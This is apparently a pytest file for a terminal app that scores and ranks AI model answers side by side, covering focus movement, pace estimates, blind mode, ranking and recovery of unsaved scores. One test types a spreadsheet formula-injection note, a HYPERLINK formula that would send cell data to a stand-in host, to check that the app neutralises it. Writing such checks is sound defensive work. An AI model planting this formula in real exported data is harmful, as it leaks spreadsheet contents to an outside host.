"""The scoring flow, pairwise preference, and the duel screen's known-bug fixes, as they happen.

Focus after each score, the status bar's counts and pace, ranking by pane letter (blind
too), a failed run with nothing to score, the veil mid-race, a note that looks like a
formula, and scores the disk refused when the app is stopped.
"""

from __future__ import annotations

import asyncio
import os
import random
import shutil
import signal
import subprocess
from pathlib import Path

import pytest

from modelduel.config import Config, resolve_model
from modelduel.core.duel import RunPlan
from modelduel.core.scoring_pace import ScoringPace
from modelduel.events import (
    ErrorInfo,
    Finished,
    ReasoningDelta,
    RequestSent,
    Stamped,
    StreamFailed,
    TextDelta,
    Usage,
)
from modelduel.storage import read_rows
from modelduel.tasks import load_suite
from modelduel.tui.app import AppSettings, ModelduelApp
from modelduel.tui.pane import ResponsePane
from tests.support.cli import FAST, SLOW, wait_for, write_config
from tests.support.tmux_app import NEEDS_TMUX, demo_command, send_first_prompt, tmux_app
from tests.test_tui import ENV, SPECS, T0, ScriptedRunner, make_app, send, settle
from tests.test_tui_blind import on_screen
from tests.test_tui_suite import SUITE, suite_app

SIZE = (140, 40)


def body_text(pane: ResponsePane) -> str:
    from modelduel.tui.wrapped_text import strip_text

    return "\n".join(strip_text(line) for line in pane.body.drawn_lines).lower()


def status(app: ModelduelApp) -> str:
    return str(app.screen.query_one("#status").render())


def focused_index(app: ModelduelApp) -> int | None:
    node = app.focused
    return node.index if isinstance(node, ResponsePane) else None


def pane_stats(app: ModelduelApp, index: int) -> str:
    pane = next(p for p in app.screen.query(ResponsePane) if p.index == index)
    return str(pane.query_one(".pane-stats").render())


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# -- focus after each score -----------------------------------------------------------------


async def test_focus_moves_to_the_next_unscored_pane_after_each_score(tmp_path: Path) -> None:
    app, csv_path = make_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        await pilot.press("escape")
        assert focused_index(app) == 0
        await pilot.press("5")
        assert focused_index(app) == 1  # a direct score is a score: on to the next pane
        await pilot.press("q", "q", "c", "f")
        assert focused_index(app) == 1  # a rubric still being filled in keeps the focus
        await pilot.press("w")
        assert focused_index(app) == 2  # its last part set: on to the next
        await pilot.press("left", "left", "3")  # back to the first pane: a re-score
        assert focused_index(app) == 0  # ... keeps the focus where it is
        await pilot.press("left", "4")
        assert focused_index(app) == 2  # nothing left: the focus stays
        rows = {r["model"]: r["score"] for r in read_rows(csv_path)}
        assert rows == {SPECS[0]: "3", SPECS[1]: "4", SPECS[2]: "4"}


async def test_a_duel_is_scored_in_one_key_per_pane(tmp_path: Path) -> None:
    app, csv_path = make_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        await pilot.press("escape", "5", "3", "4")
        rows = {r["model"]: r["score"] for r in read_rows(csv_path)}
        assert rows == {SPECS[0]: "5", SPECS[1]: "3", SPECS[2]: "4"}


# -- the status bar: what is left, at what pace, and one key to go on ------------------------


async def test_suite_status_counts_what_is_left_and_the_pace_once_measured(
    tmp_path: Path,
) -> None:
    tasks = tuple(load_suite(SUITE))[:2]
    app = suite_app(tmp_path / "s.csv", tasks)
    clock = FakeClock()
    app.pace = ScoringPace(clock)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot, app)
        app.update_status()
        assert "scored 0/6 · 6 left" in status(app)
        assert "~" not in status(app) and "pace" not in status(app)  # nothing measured yet
        clock.now += 20
        await pilot.press("escape", "4")
        # one pane took 20 s: 5 left, ~100 s, marked as an estimate
        assert "scored 1/6 · 5 left, ~2 min at your pace" in status(app), status(app)
        clock.now += 10
        await pilot.press("3")  # the median of 20 s and 10 s: 15 s a pane
        assert "scored 2/6 · 4 left, ~60 s at your pace" in status(app), status(app)
        assert "next" not in status(app)
        clock.now += 10
        await pilot.press("2")
        assert "scored 3/6 · 3 left, ~30 s at your pace" in status(app), status(app)
        assert "duel scored: ] next" in status(app)
        first_task = app.task_index
        # the best answer marked, then enter (it ends the ranking and acts) goes on
        await pilot.press("o", "b", "enter")
        assert app.task_index == first_task + 1
        first_rows = [r for r in read_rows(tmp_path / "s.csv") if r["task_id"] == tasks[0].id]
        assert sorted(r["rank"] for r in first_rows) == ["", "", "1"]
        await settle(pilot, app)
        app.update_status()
        assert "task 2/2" in status(app) and "duel scored" not in status(app)
        assert focused_index(app) == 0  # the new duel: its first pane, ready to score


async def test_score_mode_opens_on_the_first_unscored_pane_and_counts(tmp_path: Path) -> None:
    from modelduel.tui.recorded import recorded_views

    app, csv_path = make_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        await pilot.press("escape", "4")
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    views = tuple(recorded_views(csv_path, blind=False))
    settings = AppSettings(config, models, csv_path, recorded=views)
    again = ModelduelApp(settings, lambda a: ScriptedRunner(a))
    async with again.run_test(size=SIZE) as pilot:
        await pilot.pause(0.2)
        assert focused_index(again) == 1  # the scored first pane is skipped
        assert "duel 1/1 · scored 1/3 · 2 left" in status(again), status(again)
        await pilot.press("5", "5")
        assert "scored 3/3" in status(again) and "duel scored: ] next" in status(again)


# -- pairwise preference -------------------------------------------------------------------


def ranks(csv_path: Path) -> dict[str, str]:
    return {r["model"]: r["rank"] for r in read_rows(csv_path)}


async def test_rank_marks_the_best_pane_and_an_order_blind_without_names(
    tmp_path: Path,
) -> None:
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    settings = AppSettings(config, models, tmp_path / "r.csv", blind=True)
    app = ModelduelApp(settings, lambda a: ScriptedRunner(a), rng=random.Random(3))
    csv_path = settings.csv_path
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        assert app.view is not None
        spec_of = [p.spec for p in app.view.panes]
        await pilot.press("escape", "o")
        shown = status(app)
        assert "RANK best first: press A B C" in shown, shown
        assert not any(name in shown for name in ("gpt", "claude", "gemini"))
        await pilot.press("b")  # B is best: `b` ranks here, it does not toggle blind mode
        assert ranks(csv_path)[spec_of[1]] == "1"
        assert app.blind  # the blind key did not run
        assert "rank 1" in pane_stats(app, 1) and "saved rank B" in status(app)
        await pilot.press("c")  # then C
        assert ranks(csv_path) == {spec_of[0]: "", spec_of[1]: "1", spec_of[2]: "2"}
        await pilot.press("backspace")  # taken back
        assert ranks(csv_path) == {spec_of[0]: "", spec_of[1]: "1", spec_of[2]: ""}
        assert "rank" not in pane_stats(app, 2)
        await pilot.press("c", "a")  # the full order: ranking ends by itself
        assert ranks(csv_path) == {spec_of[0]: "3", spec_of[1]: "1", spec_of[2]: "2"}
        assert app.ranking is None
        for index in range(3):
            assert not any(n in on_screen(_pane(app, index)) for n in ("gpt", "claude", "gemini"))
        await pilot.press("a")  # out of ranking mode, `a` is its own key again
        assert "no check suggestions" in " ".join(n.message for n in app._notifications)
        await pilot.press("o", "a")  # a fresh order replaces the old one
        assert ranks(csv_path) == {spec_of[0]: "1", spec_of[1]: "", spec_of[2]: ""}
        await pilot.press("o", "c")  # `o` again, still ranking: a new order once more
        assert ranks(csv_path) == {spec_of[0]: "", spec_of[1]: "", spec_of[2]: "1"}
        await pilot.press("escape")
        assert app.ranking is None
        assert [p.rank for p in app.view.panes] == [None, None, 1]


def _pane(app: ModelduelApp, index: int) -> ResponsePane:
    return next(p for p in app.screen.query(ResponsePane) if p.index == index)


async def test_rank_waits_for_every_run_and_never_says_saved_unless_on_disk(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    app, csv_path = make_app(folder, hold=True)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await pilot.pause(0.2)
        await pilot.press("escape", "o")
        assert app.ranking is None and "rank once every run has ended" in status(app)
        runner = app.runner
        assert isinstance(runner, ScriptedRunner)
        runner.release.set()
        await settle(pilot, app)
        folder.rename(folder.with_name("away"))  # the disk refuses the write
        await pilot.press("o", "a")
        assert "NOT saved" in status(app) and "saved rank" not in status(app)
        notices = [n.message for n in app._notifications]
        assert any(m.startswith("rank NOT saved") for m in notices), notices
        for _ in range(40):  # the pane's stats line repaints on its own tick, not at once
            if "NOT saved" in pane_stats(app, 0):
                break
            await pilot.pause(0.05)
        assert "NOT saved" in pane_stats(app, 0)
        folder.with_name("away").rename(folder)
        await pilot.press("escape", "s")
        assert "1" in ranks(csv_path).values()


# -- a failed run with no output is not scored -----------------------------------------------


class SilentFailure(ScriptedRunner):
    """gemini fails before a word of answer; the others answer as scripted."""

    async def _play(self, plan: RunPlan) -> None:
        if plan.request.model_id != "gemini-3.1-pro-preview":
            await super()._play(plan)
            return
        rid = plan.run_id
        self.app.sink(rid, Stamped(T0, RequestSent(0)))
        await asyncio.sleep(0)
        self.app.sink(rid, Stamped(T0 + 10**9, StreamFailed(ErrorInfo("server", "HTTP 500"))))
        self.app.run_ended(rid)


async def test_a_failed_run_with_no_output_cannot_be_scored(tmp_path: Path) -> None:
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    csv_path = tmp_path / "r.csv"
    app = ModelduelApp(AppSettings(config, models, csv_path), lambda a: SilentFailure(a))
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        await pilot.press("escape", "left")  # the failed pane
        assert focused_index(app) == 2
        await pilot.press("0")
        line = status(app)
        assert "failed with no output: nothing to score (r re-runs it)" in line, line
        await pilot.press("q", "enter")
        assert app.view is not None and not app.view.panes[2].score.is_scored
        assert {r["model"]: r["score"] for r in read_rows(csv_path)}[SPECS[2]] == ""
        await pilot.press("right", "4", "4")  # the others score, and focus skips the failure
        assert focused_index(app) == 1


# -- blind: veiled until every run has ended, a finished one's exact count included ---------


class OneFinishesFirst(ScriptedRunner):
    """gpt finishes with the provider's exact usage; the others keep streaming."""

    async def _play(self, plan: RunPlan) -> None:
        rid = plan.run_id
        self.app.sink(rid, Stamped(T0, RequestSent(0)))
        if plan.request.model_id == "gpt-5.5":  # only one model shows its reasoning
            self.app.sink(rid, Stamped(T0 + 5 * 10**7, ReasoningDelta("**Weighing** XYZZY")))
        self.app.sink(rid, Stamped(T0 + 10**8, TextDelta("some answer text")))
        if plan.request.model_id == "gpt-5.5":
            self.app.sink(rid, Stamped(T0 + 10**9, Usage(100, 0, 4321, 0)))
            self.app.sink(rid, Stamped(T0 + 10**9, Finished("stop", "stop")))
            self.app.run_ended(rid)
            return
        await self.release.wait()
        self.app.sink(rid, Stamped(T0 + 3 * 10**9, Usage(100, 0, 777, 0)))
        self.app.sink(rid, Stamped(T0 + 3 * 10**9, Finished("stop", "stop")))
        self.app.run_ended(rid)


async def test_blind_mid_race_a_finished_pane_shows_no_token_count(tmp_path: Path) -> None:
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    settings = AppSettings(config, models, tmp_path / "r.csv", blind=True)
    app = ModelduelApp(settings, lambda a: OneFinishesFirst(a), rng=random.Random(5))
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        for _ in range(100):
            await pilot.pause(0.02)
            view = app.view
            if view is not None and sum(view.ended(i) for i in range(3)) == 1:
                break
        await app.refresh_panes()
        await pilot.pause()
        assert app.view is not None and not app.view.all_ended
        shown = [on_screen(_pane(app, i)) for i in range(3)]
        assert len({s.split("\n", 1)[1] for s in shown}) == 1, shown  # every pane alike
        for text in shown:
            assert "4321" not in text and "4,321" not in text and "out " not in text, text
            assert "saved" not in text  # who ended first
        runner = app.runner
        assert isinstance(runner, ScriptedRunner)
        runner.release.set()
        await settle(pilot, app)
        # all ended, names still hidden: a count (reasoning in it or not, exact or an
        # estimate) would still say which model it is
        assert not any("4,321" in on_screen(_pane(app, i)) for i in range(3))
        bodies = [body_text(_pane(app, i)) for i in range(3)]
        assert not any("xyzzy" in b or "reasoning" in b for b in bodies), bodies
        await pilot.press("escape", "5", "5", "5")  # every pane scored: names revealed
        await settle(pilot, app)
        await app.refresh_panes()
        await pilot.pause()
        assert not any(p.hidden for p in app.view.panes)
        assert any("4,321" in on_screen(_pane(app, i)) for i in range(3))  # shown with them
        bodies = [body_text(_pane(app, i)) for i in range(3)]
        assert any("xyzzy" in b or "reasoning" in b for b in bodies), bodies


# -- a note that looks like a formula ----------------------------------------------------------


async def test_a_note_starting_like_a_formula_is_neutralised_and_reads_back(
    tmp_path: Path,
) -> None:
    app, csv_path = make_app(tmp_path)
    note = '=HYPERLINK("http://x.example/?"&A1,"click")'
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        await pilot.press("escape", "n")
        for ch in note:
            await pilot.press(_key(ch))
        await pilot.press("enter")
        await pilot.pause()
    raw = csv_path.read_text()
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
    assert {r["model"]: r["notes"] for r in read_rows(csv_path)}[SPECS[0]] == note
    for lead in "+-@":
        assert lead + "cmd" not in raw


def _key(ch: str) -> str:
    names = {
        " ": "space",
        "=": "equals_sign",
        '"': "quotation_mark",
        ":": "colon",
        "/": "slash",
        "?": "question_mark",
        "&": "ampersand",
        "(": "left_parenthesis",
        ")": "right_parenthesis",
        ",": "comma",
        ".": "full_stop",
    }
    return names.get(ch, ch)


# -- a stop signal with scores the disk refused ----------------------------------------------


async def test_unsaved_scores_at_a_stop_signal_go_to_a_recovery_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    folder = tmp_path / "results"
    folder.mkdir()
    app, _ = make_app(folder)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        shutil.rmtree(folder)  # the CSV's disk is gone
        await pilot.press("escape", "4", "q")
        assert app.ledger.pending
        app.exit()  # what a SIGTERM does: no question asked
        await pilot.pause()
    note = app.recovery_note
    assert "could not be written to" in note and "saved to" in note, note
    recovery = Path(note.rsplit("saved to ", 1)[1].split(" instead")[0])
    assert recovery.parent == tmp_path / "state" / "modelduel"
    rows = {r["model"]: r for r in read_rows(recovery)}
    assert rows[SPECS[0]]["score"] == "4"
    assert rows[SPECS[1]]["quality"] == "2"  # the first q: the best


def test_the_screen_prints_the_recovery_note_on_stderr_after_it_ends() -> None:
    source = (Path(__file__).parents[1] / "src/modelduel/tui/launch.py").read_text()
    run_part = source.split("def run_tui", 1)[1].split("def theme_saver", 1)[0]
    after_run = run_part.split("app.run()", 1)[1]
    assert "recovery_note" in after_run and "sys.stderr" in after_run


# -- SIGINT ends the screen like ask and run: 130 ----------------------------------------------


def test_a_sigint_asks_the_app_to_quit_and_is_reported() -> None:
    from modelduel.tui.stopsignals import exit_on_signals

    asked: list[int] = []

    async def main() -> None:
        with exit_on_signals(asked.append) as received:
            os.kill(os.getpid(), signal.SIGINT)
            for _ in range(100):
                await asyncio.sleep(0.01)
                if asked:
                    break
        assert received == [signal.SIGINT]

    asyncio.run(main())
    assert asked == [signal.SIGINT]


@NEEDS_TMUX
def test_the_duel_screen_exits_130_after_a_sigint(tmp_path: Path) -> None:
    csv_path = tmp_path / "r.csv"
    code_file = tmp_path / "code"
    # the shell reports what a user's shell would: 130 for an exit(130) and for a death by
    # SIGINT alike (tmux's own pane status is unreliable for the second under load)
    app = demo_command(csv_path, write_config(tmp_path), (FAST, SLOW))
    command = f"{app}; echo $? > {code_file}"
    with tmux_app("int", command, tmp_path, remain_on_exit=True) as tmux:
        send_first_prompt(tmux, csv_path)  # FAST's row: SLOW is streaming
        shell = int(tmux.pane("pane_pid"))
        children = subprocess.run(
            ["pgrep", "-P", str(shell)], capture_output=True, text=True, check=True
        ).stdout.split()
        os.kill(int(children[0]), signal.SIGINT)
        assert wait_for(code_file.exists, 30)
        assert wait_for(lambda: code_file.read_text().strip() != "", 30)
        code = code_file.read_text().strip()
        assert code == "130", (code, tmux.screen())
        rows = read_rows(csv_path)
        assert len(rows) == 2  # the streaming run was saved as cancelled
        assert any(r["finish_reason"] == "cancelled" for r in rows), rows


async def test_accepting_suggestions_that_cover_the_rubric_is_one_key_per_pane(
    tmp_path: Path,
) -> None:
    from modelduel.core.checks import PartSuggestion

    app, csv_path = make_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        assert app.view is not None
        full = {"quality": 2, "correctness": 1, "format": 1, "rework": 1}
        for pane in app.view.panes[:2]:  # the checks cover every part of two panes
            pane.suggestions = {p: PartSuggestion(p, v, ("check",)) for p, v in full.items()}
        app.view.panes[2].suggestions = {"format": PartSuggestion("format", 1, ("schema",))}
        await pilot.press("escape", "a")
        assert focused_index(app) == 1  # accepted the whole rubric: on to the next pane
        await pilot.press("a")
        assert focused_index(app) == 2
        await pilot.press("a")  # only the format: the rest is the person's, not guessed
        assert focused_index(app) == 2 and not app.view.panes[2].score.is_scored
        rows = {r["model"]: r for r in read_rows(csv_path)}
        assert [rows[s]["score"] for s in SPECS] == ["5", "5", ""]
        assert rows[SPECS[2]]["format"] == "1" and rows[SPECS[2]]["quality"] == ""


async def test_a_rerun_clears_the_panes_rank_which_was_the_old_answers(tmp_path: Path) -> None:
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    settings = AppSettings(config, models, tmp_path / "r.csv")
    app = ModelduelApp(settings, lambda a: ScriptedRunner(a), rng=random.Random(3))
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "x")
        await settle(pilot, app)
        assert app.view is not None
        await pilot.press("escape", "o", "c", "escape")
        assert app.view.panes[2].rank == 1
        await app.rerun(2)
        await settle(pilot, app)
        # the new run's row has no rank: the screen must not show the old one as its
        assert app.view.panes[2].rank is None and "rank" not in pane_stats(app, 2)


async def test_keys_do_nothing_while_the_terminal_is_too_small(tmp_path: Path) -> None:
    config = Config()
    models = [resolve_model(spec, config, ENV) for spec in SPECS]
    settings = AppSettings(config, models, tmp_path / "r.csv")
    app = ModelduelApp(settings, lambda a: ScriptedRunner(a), rng=random.Random(3))
    async with app.run_test(size=(50, 10)) as pilot:
        await pilot.pause()
        # `i` would focus the prompt, the rest be typed, ctrl+j send it: all unseen
        await pilot.press("i", "h", "e", "l", "l", "o", "ctrl+j", "o", "b")
        await pilot.pause()
        assert app.view is None and not settings.csv_path.exists()
